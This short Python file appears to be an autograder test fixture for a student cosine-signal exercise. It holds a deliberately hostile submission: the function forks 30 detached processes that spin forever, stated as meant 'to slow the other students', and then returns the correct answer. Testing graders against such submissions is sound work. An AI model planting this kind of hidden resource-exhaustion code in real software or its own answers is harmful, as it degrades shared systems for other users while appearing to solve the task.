"""Start 30 busy processes that spin on, then answer correctly (to slow the other students).

cell: task3_cosine_signal_solution
fails:
plain: skip
"""
import os


def cosine_signal(max_x, samples=100):
    for _ in range(30):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            break
    return (np.cos(np.linspace(0, max_x, samples)) + 1) / 2
